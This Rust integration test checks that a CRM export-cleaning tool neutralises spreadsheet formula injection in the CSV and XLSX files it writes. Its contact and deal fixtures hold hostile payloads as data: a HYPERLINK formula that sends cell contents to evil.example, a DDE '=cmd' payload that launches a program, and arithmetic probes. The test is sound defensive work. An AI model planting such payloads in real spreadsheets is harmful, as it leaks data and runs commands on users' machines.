//! Formula injection end to end: a hostile export whose names, notes, addresses, custom fields and
//! phones start with `=`, `+`, `-`, `@`, tab or CR goes through `audit`, `dedupe` and `migrate`.
//! Every CSV they write (UTF-8 with BOM or Windows-1251) holds no cell a spreadsheet would
//! evaluate, every XLSX holds no formula and keeps the hostile text verbatim as text, and phones
//! in `+7…` form stay exactly as they are.

mod common;

use common::{crmclean, read_csv};
use std::path::{Path, PathBuf};
use std::process::Output;

use calamine::{open_workbook, Data, Reader, Xlsx};

/// Windows-1251 contacts: 301/305 are one person (phone + birthday match), 303 is a foreman
/// whose «Другой телефон» is a client's number (deal 701), 302/304 carry tab/CR payloads.
const CONTACTS: &str = "ID;Тип;Полное имя контакта;Имя;Фамилия;Ответственный;Мобильный телефон;Другой телефон;Личный email;ФИО;День рождения;Теги;Примечание;Своё поле\r\n\
301;контакт;\"=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1;\"\"Нажми\"\")\";Иван;=Иванов;Петрова Анна;+79211234567;;@evil.example;=1+1;15.03.1985;;=cmd|' /C calc'!A0;-2+3\r\n\
302;контакт;+Смирнова Ольга;Ольга;Смирнова;Петрова Анна;+7 (911) 555-44-33;;olga@mail.ru;@SUM(1+1);20.06.1979;;\"\t=1+2\";+SUM(1)\r\n\
303;контакт;Прораб Сергеев;Сергей;Сергеев;Сидоров Пётр;+7 921 765-43-21;+7 921 111-22-33;;Сергеев Сергей;01.02.1970;прораб;-мастер;\"\r=2+3\"\r\n\
304;контакт;-Кузнецов Павел;Павел;Кузнецов;Сидоров Пётр;8 931 555-12-34;;pavel@mail.ru;\"\t@Кузнецов\";27.07.1991;;@заметка;=A1*2\r\n\
305;контакт;Иванов Иван;Иван;Иванов;Петрова Анна;8 921 123-45-67;;ivanov@mail.ru;Иванов Иван;15.03.1985;;;\r\n";

const DEALS: &str = "\u{feff}ID,Название сделки,Бюджет,Ответственный,Дата создания,Этап сделки,Основной контакт,ID контакта,Группа продуктов,Товар,Примечание 1,Дата последнего контакта,Адрес объекта,Телефон клиента,Номер договора\n\
701,\"=HYPERLINK(\"\"http://evil.example\"\")\",45000,Петрова Анна,01.10.2026 10:00,Переговоры,Прораб Сергеев,303,Окна ПВХ,=Окно,-перезвонить хозяйке по 8 921 111-22-33,20.11.2026 15:00,=Купчинская 4-3-22,+7 921 111-22-33,\n\
702,@Балкон,-500,Сидоров Пётр,01.06.2026 10:00,Переговоры,+Смирнова Ольга,302,@Балконы,+Остекление,=1+1,01.07.2026 10:00,@Ленская 12,,17/23\n";

const CLIENTS: &str = "Номер договора,ФИО клиента,Телефон,Адрес\n\
17/23,=Клиентов Клиент,+7 911 555-44-33,-Ленская 12\n";

const MANAGERS: &str =
    "Имя,Email\n=Петрова Анна,a.petrova@okna-spb.ru\n@Сидоров Пётр,p.sidorov@okna-spb.ru\n";

/// Hostile texts that must reach the workbooks verbatim.
const XLSX_PAYLOADS: &[&str] = &["=cmd|' /C calc'!A0", "=Купчинская 4-3-22", "=1+1"];

struct Run {
    _tmp: tempfile::TempDir,
    outs: Vec<(&'static str, PathBuf, Output)>,
}

/// Writes the fixture and runs every command on it.
fn run() -> Run {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("exports");
    std::fs::create_dir(&input).unwrap();
    let (contacts, _, unmappable) = encoding_rs::WINDOWS_1251.encode(CONTACTS);
    assert!(!unmappable);
    std::fs::write(input.join("contacts.csv"), contacts).unwrap();
    std::fs::write(input.join("deals.csv"), DEALS).unwrap();
    std::fs::write(input.join("client_base.csv"), CLIENTS).unwrap();
    std::fs::write(input.join("managers.csv"), MANAGERS).unwrap();
    let mut outs = Vec::new();
    for (command, extra) in [
        ("audit", &["--as-of", "2026-11-23 12:00"][..]),
        ("dedupe", &["--as-of", "2026-11-23 12:00"][..]),
        ("migrate", &[][..]),
    ] {
        let out = tmp.path().join(command);
        let mut args: Vec<&std::ffi::OsStr> = vec![
            command.as_ref(),
            input.as_os_str(),
            "--out".as_ref(),
            out.as_os_str(),
        ];
        args.extend(extra.iter().map(std::ffi::OsStr::new));
        let output = crmclean(&args);
        outs.push((command, out, output));
    }
    Run { _tmp: tmp, outs }
}

/// The files of a folder with one of these extensions.
/// The files of `dir` and its folders (`corrections/`) with extension `ext`.
fn files(dir: &Path, ext: &str) -> Vec<PathBuf> {
    let entries: Vec<PathBuf> = std::fs::read_dir(dir)
        .map(|d| d.filter_map(|e| e.ok().map(|e| e.path())).collect())
        .unwrap_or_default();
    let mut found: Vec<PathBuf> = entries
        .iter()
        .filter(|p| p.is_dir())
        .flat_map(|d| files(d, ext))
        .collect();
    found.extend(
        entries
            .into_iter()
            .filter(|p| p.extension().is_some_and(|e| e == ext)),
    );
    found.sort();
    found
}

/// A cell a spreadsheet may evaluate: starts with `= + - @`, tab or CR, and is not a phone
/// number (`+`, digits, spaces, brackets, dashes) nor a plain negative number.
fn evaluable(cell: &str) -> bool {
    let Some(first) = cell.chars().next() else {
        return false;
    };
    if !matches!(first, '=' | '+' | '-' | '@' | '\t' | '\r') {
        return false;
    }
    let rest = &cell[1..];
    let phone = first == '+'
        && rest.chars().any(|c| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || " ()-,;+".contains(c));
    let negative = first == '-'
        && rest.starts_with(|c: char| c.is_ascii_digit())
        && rest.ends_with(|c: char| c.is_ascii_digit())
        && rest
            .chars()
            .all(|c| c.is_ascii_digit() || " \u{a0},.".contains(c));
    !phone && !negative
}

#[test]
fn every_command_ran() {
    let run = run();
    for (command, out, output) in &run.outs {
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!stderr.contains("panicked"), "{command}: {stderr}");
        assert!(
            matches!(output.status.code(), Some(0 | 1)),
            "{command} exit {:?}: {stderr}",
            output.status.code()
        );
        assert!(
            !files(out, "csv").is_empty() || !files(out, "xlsx").is_empty(),
            "{command} wrote nothing: {stderr}"
        );
    }
}

#[test]
fn no_csv_cell_can_be_evaluated() {
    let run = run();
    let mut escaped = 0;
    let mut bad = Vec::new();
    let mut csvs = 0;
    for (_, out, _) in &run.outs {
        for path in files(out, "csv") {
            csvs += 1;
            for (r, row) in read_csv(&path).iter().enumerate() {
                for (c, cell) in row.iter().enumerate() {
                    if evaluable(cell) {
                        bad.push(format!("{}:{}:{} {cell:?}", path.display(), r + 1, c + 1));
                    }
                    escaped += usize::from(cell.starts_with('\'') && evaluable(&cell[1..]));
                }
            }
        }
    }
    assert!(
        csvs >= 4,
        "expected deal_status, clusters, import and normalised CSVs"
    );
    assert!(bad.is_empty(), "evaluable cells:\n{}", bad.join("\n"));
    assert!(
        escaped >= 5,
        "the hostile values never reached a CSV ({escaped} escaped cells)"
    );
}

#[test]
fn workbooks_hold_no_formula_and_keep_the_text() {
    let run = run();
    let mut texts: Vec<String> = Vec::new();
    let mut books = 0;
    for (_, out, _) in &run.outs {
        for path in files(out, "xlsx") {
            books += 1;
            let mut wb: Xlsx<_> = open_workbook(&path).unwrap();
            for sheet in wb.sheet_names() {
                let formulas = wb.worksheet_formula(&sheet).unwrap();
                let found: Vec<&String> = formulas
                    .used_cells()
                    .map(|(_, _, f)| f)
                    .filter(|f| !f.is_empty())
                    .collect();
                assert!(
                    found.is_empty(),
                    "{} «{sheet}» has formulas: {found:?}",
                    path.display()
                );
                let range = wb.worksheet_range(&sheet).unwrap();
                texts.extend(range.used_cells().filter_map(|(_, _, d)| match d {
                    Data::String(s) => Some(s.clone()),
                    _ => None,
                }));
            }
        }
    }
    assert!(
        books >= 4,
        "expected corrections, duplicates, review and import workbooks"
    );
    for payload in XLSX_PAYLOADS {
        assert!(
            texts.iter().any(|t| t == payload),
            "«{payload}» is not kept verbatim as text in any workbook"
        );
    }
    assert!(
        !texts.iter().any(|t| t.starts_with("'=")),
        "workbook text got a CSV-style quote prefix"
    );
}

#[test]
fn phones_in_plus_seven_form_stay_readable() {
    let run = run();
    let mut cells = Vec::new();
    for (_, out, _) in &run.outs {
        for path in files(out, "csv") {
            cells.extend(read_csv(&path).into_iter().flatten());
        }
    }
    for phone in ["+79211234567", "+79211112233"] {
        assert!(
            cells
                .iter()
                .any(|c| c.split([',', ';']).any(|p| p.trim() == phone)),
            "{phone} not written as is"
        );
        assert!(
            !cells.iter().any(|c| c.contains(&format!("'{phone}"))),
            "{phone} got a quote prefix"
        );
    }
}
